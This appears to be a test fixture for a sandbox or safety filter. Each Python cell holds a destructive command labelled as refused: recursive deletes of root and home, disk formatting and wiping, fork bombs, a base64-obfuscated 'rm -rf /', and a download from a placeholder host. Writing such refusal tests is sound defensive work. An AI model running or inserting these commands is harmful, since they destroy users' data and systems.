# presets: minimal
# %%
import os
os.system("shutdown -h now")  # refused: destructive-command
# %%
import subprocess
subprocess.run("format c: /y", shell=True)  # refused: destructive-command
# %%
import os
os.system("del /f /s /q C:\\*")  # refused: destructive-command
# %%
import shutil
shutil.rmtree("C:\\")  # refused: recursive-delete
# %%
import subprocess
subprocess.run(["sudo", "rm", "-r", "-f", "/usr"])  # refused: destructive-command
# %%
import os
os.system("find / -name '*.py' -delete")  # refused: destructive-command
# %%
import os
os.system("cat /dev/urandom > /dev/sda")  # refused: destructive-command
# %%
import os
os.system("wget -q http://x/y.sh && rm -rf ~/")  # refused: destructive-command
# %%
import os
home = os.path.expanduser("~")
os.system(f"rm -rf {home}")  # refused: destructive-command
# %%
import os
os.system("rm -rf $HOME/*")  # refused: destructive-command
# %%
import subprocess
subprocess.Popen("wipefs -a /dev/sda", shell=True)  # refused: destructive-command
# %%
import os
for d in ["/etc", "/usr", "/var"]:
    os.system("rm -rf " + d)  # refused: destructive-command
# %%
import os
def bomb():
    while 1:
        os.fork()  # refused: destructive-command
bomb()
# %%
import shutil
for d in ("/bin", "/lib"):
    shutil.rmtree(d)  # refused: recursive-delete
# %%
import os, shutil
shutil.rmtree(os.environ["HOME"])  # refused: recursive-delete
# %%
import os, shutil
for e in os.listdir("/"):
    shutil.rmtree("/" + e, ignore_errors=True)  # refused: recursive-delete
# %%
import os
os.system("mv / /dev/null")  # refused: destructive-command
# %%
import os
os.chdir("/")
os.system("rm -rf *")  # refused: destructive-command
# %%
import subprocess
subprocess.run("rm -rf *", shell=True, cwd="/")  # refused: destructive-command
# %%
import glob, shutil
for p in glob.glob("/*"):
    shutil.rmtree(p)  # refused: recursive-delete
# %%
import os
os.system("echo cm0gLXJmIC8= | base64 -d | sh")  # refused: destructive-command
# %%
import multiprocessing
def f():
    while True:
        multiprocessing.Process(target=f).start()  # refused: destructive-command
f()
# %%
import os
def f():
    os.fork()  # refused: destructive-command
    f()
f()
# %%
import os
os.system("python3 -c \"import shutil; shutil.rmtree('/')\"")  # refused: destructive-command
